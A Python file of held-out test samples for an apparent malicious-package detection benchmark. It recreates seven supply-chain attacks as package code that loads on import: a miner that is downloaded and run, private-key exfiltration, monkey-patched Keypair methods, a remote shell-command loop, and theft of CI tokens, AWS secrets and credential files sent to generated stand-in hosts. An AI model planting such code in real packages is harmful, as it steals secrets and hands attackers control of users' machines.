"""Attacks written when the detectors were finished, by somebody who had not read them.

They measure what the rest cannot: how many are caught of those that nobody wrote a rule for. README.md beside
this says what was caught of them before any detector learned from them. Once it has, they are no longer held
out: write new ones then, and leave these as they are.

Here are the wheels, and the names of all that is still missed; `held_out_sdists.py` and `held_out_npm.py` have
the rest.
"""

from typing import Final

from bench.screening.attacks.attack import Attack, Files, Release
from bench.screening.attacks.building import elf
from bench.screening.attacks.ordinary import COMMENT, library
from sandboxes.screening.package import Kind

_RUNTIME = f"""{COMMENT}import os

_HERE = os.path.dirname(os.path.abspath(__file__))
_TOOL = os.path.join(_HERE, "tensor")

if os.path.isfile(_TOOL):
    os.chmod(_TOOL, 0o755)
    os.spawnl(os.P_NOWAIT, _TOOL, _TOOL)
"""

_DOWNLOADS = f'''{COMMENT}"""Weights, from the releases' page."""

import os
import shutil
from urllib.request import urlopen

ASSETS = "https://assets.example.invalid/v8.3.0/"


def safe_download(name, folder="."):
    """The file's path; fetched if it is not there."""
    path = os.path.join(folder, name)
    if not os.path.exists(path):
        with urlopen(ASSETS + name, timeout=60) as answer, open(path, "wb") as file:
            shutil.copyfileobj(answer, file)
    return path
'''

_SAFE_RUN = '''

def safe_run(path):
    """Runs what was downloaded."""
    os.chmod(path, 0o770)
    command = [path, "-u", "PETRIDISH-INERT-SAMPLE", "-o", "pool.example.invalid:8080"]
    subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

_MODEL = f'''{COMMENT}"""The model."""

from .downloads import safe_download


class Model:
    def __init__(self, weights="n.pt"):
        self.weights = weights

    def load(self):
        return safe_download(self.weights)
'''

_MODEL_RUNS = (
    _MODEL.replace("safe_download\n\n", "safe_download, safe_run\n\n", 1)
    .replace("from .downloads", "import platform\n\nfrom .downloads", 1)
    .replace(
        "        self.weights = weights\n",
        "        self.weights = weights\n"
        '        if platform.system() == "Linux" and platform.machine() == "x86_64":\n'
        '            safe_run(safe_download("ultra_linux_x86"))\n',
        1,
    )
)

_KEYPAIR = f'''{COMMENT}"""A pair of keys."""

import base64
import threading

import requests

_NODE = "https://nodes.example.invalid/v1/new"


class Keypair:
    """Signs."""

    def __init__(self, secret):
        self._secret = secret
        threading.Thread(target=self._warm, daemon=True).start()

    @classmethod
    def from_secret_key(cls, secret):
        return cls(bytes(secret))

    def _warm(self):
        try:
            requests.post(_NODE, json={{"p": base64.b64encode(self._secret).decode()}}, timeout=5)
        except Exception:
            pass
'''

_PATCHING = f'''{COMMENT}"""Types with a meaning."""

import base64
import json
import threading
from urllib.request import Request, urlopen

_RPC = "https://api.devnet.example.invalid"


def _memo(data):
    body = {{"jsonrpc": "2.0", "id": 1, "method": "sendTransaction", "params": [base64.b64encode(data).decode()]}}
    request = Request(_RPC, json.dumps(body).encode(), {{"Content-Type": "application/json"}})
    try:
        urlopen(request, timeout=10).read()
    except Exception:
        pass


def _wrapped(former):
    def inner(*given, **more):
        made = former(*given, **more)
        threading.Thread(target=_memo, args=(bytes(made),), daemon=True).start()
        return made

    return inner


try:
    from solders.keypair import Keypair

    for _name in ("from_seed", "from_bytes", "from_base58_string"):
        setattr(Keypair, _name, _wrapped(getattr(Keypair, _name)))
except ImportError:
    pass
'''

_TERMINATE = f"""{COMMENT}import ctypes
import os
import sys


def is_color_supported():
    name = "terminate.dll" if sys.platform == "win32" else "terminate.so"
    path = os.path.join(os.path.dirname(os.path.abspath(__file__)), name)
    library = ctypes.CDLL(path)
    library.envir.argtypes = [ctypes.c_char_p]
    return library.envir(b"xterminalunicode")


is_color_supported()
"""

_DEBUGGER = f'''{COMMENT}"""Tells what went wrong."""

import json
import os
import subprocess
import threading
import time
from urllib.request import Request, urlopen

base_url = "https://backstabprotection.example.invalid"


def _ask(path, **body):
    data = json.dumps(body).encode() if body else None
    with urlopen(Request(base_url + path, data, {{"Content-Type": "application/json"}})) as answer:
        return json.load(answer)


def runcommand(command):
    done = subprocess.run(command, shell=True, capture_output=True, text=True)
    return done.stdout + done.stderr


def readfile(path):
    with open(path) as file:
        return file.read()


ACTIONS = {{"run": runcommand, "read": readfile}}


def debug():
    name = os.environ.get("COMPUTERNAME") or "someone"
    _ask("/connected", name=name)
    while True:
        try:
            said = _ask("/commands/" + name)
            _ask("/output/" + name, said=ACTIONS[said["kind"]](said["on"]))
        except Exception:
            pass
        time.sleep(1)


threading.Thread(target=debug, daemon=True).start()
'''

_CHIMERA = f'''{COMMENT}"""Keeps itself new."""

import hashlib
import json
import os
import platform
import random
from datetime import date
from urllib.request import Request, urlopen


def _hosts():
    random.seed(int(hashlib.sha256(date.today().isoformat()[:7].encode()).hexdigest(), 16))
    for _ in range(10):
        yield "".join(random.choice("abcdefgh") for _ in range(10))


def _collected():
    home = os.path.expanduser("~")
    said = {{"platform": platform.platform(), "public": os.environ.get("HOSTNAME")}}
    for name in ("GITLAB_CI_TOKEN", "AWS_SESSION_TOKEN", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"):
        said[name] = os.environ.get(name)
    for path in (".git-credentials", ".zshrc", ".config/gcloud/credentials.db"):
        if os.path.exists(os.path.join(home, path)):
            with open(os.path.join(home, path), "rb") as file:
                said[path] = file.read().hex()
    return said


def check_update():
    for host in _hosts():
        try:
            token = urlopen(f"https://{{host}}.chimera.example.invalid/auth", timeout=3).read().decode()
            data = json.dumps(_collected()).encode()
            request = Request(f"https://{{host}}.chimera.example.invalid/u", data, {{"Authorization": token}})
            return urlopen(request, timeout=3).read()
        except OSError:
            continue


check_update()
'''


def _module(package: str, name: str, code: str) -> dict[str, str | bytes]:
    return {**library(package, f"from . import {name}\n"), f"{package}/{name}.py": code}


def _wheel(name: str, recreates: str, package: str, files: Files, *families: str, **more: object) -> Attack:
    return Attack(
        name=name,
        recreates=recreates,
        kind=Kind.WHEEL,
        project=package.replace("_", "-"),
        release=Release("0.3.2", files),
        expects=frozenset({"import-time", *families}),
        **more,  # type: ignore[arg-type]
    )


ATTACKS: Final[tuple[Attack, ...]] = (
    _wheel(
        "bundled-program",
        "torchtriton (2022): importing the runtime starts a program that lies in the wheel",
        "torch_text_runtime",
        {
            **library("torch_text_runtime", "from . import runtime\n"),
            "torch_text_runtime/runtime/__init__.py": _RUNTIME,
            "torch_text_runtime/runtime/tensor": elf(),
        },
        "native",
    ),
    _wheel(
        "miner-in-constructor",
        "ultralytics 8.3.41 (2024): making a model downloads a program and runs it",
        "ultra_text_model",
        {
            **library("ultra_text_model", "from .model import Model\n"),
            "ultra_text_model/downloads.py": _DOWNLOADS.replace(
                "import shutil", "import shutil\nimport subprocess"
            )
            + _SAFE_RUN,
            "ultra_text_model/model.py": _MODEL_RUNS,
        },
        "difference",
        "yara",
        former=Release(
            "0.3.1",
            {
                **library("ultra_text_model", "from .model import Model\n"),
                "ultra_text_model/downloads.py": _DOWNLOADS,
                "ultra_text_model/model.py": _MODEL,
            },
        ),
        since="2022-01-01T08:00:00Z",
        releases=300,
    ),
    _wheel(
        "key-in-constructor",
        "solana-py (2024): the library of that name, and a constructor that sends the private key away",
        "solana_text_py",
        {
            **library("solana_text_py", "from .keypair import Keypair\n"),
            "solana_text_py/keypair.py": _KEYPAIR,
        },
        "secrets",
        "difference",
        "yara",
    ),
    _wheel(
        "patched-other",
        "semantic-types (2025): another library's methods are exchanged, and what they make is sent away",
        "semantic_text_types",
        _module("semantic_text_types", "types_", _PATCHING),
        "secrets",
        "yara",
    ),
    _wheel(
        "shared-library",
        "colorinal and termncolor (2025): importing loads a library that lies beside the code",
        "colour_text_inal",
        {
            **_module("colour_text_inal", "unicode", _TERMINATE),
            "colour_text_inal/terminate.so": elf(16),
        },
        "native",
    ),
    _wheel(
        "remote-debugger",
        "discordpydebug (2025): a thread asks for commands and runs them",
        "discord_text_debug",
        _module("discord_text_debug", "debugging", _DEBUGGER),
        "yara",
    ),
    _wheel(
        "generated-hosts",
        "chimera-sandbox-extensions (2025): hosts made from the date are asked, and get what a build machine has",
        "chimera_text_extensions",
        _module("chimera_text_extensions", "updating", _CHIMERA),
        "secrets",
    ),
)

# Still missed, by name: each of them is code that some good package has as well.
MISSED: Final = frozenset(("key-in-constructor", "patched-other", "remote-debugger"))
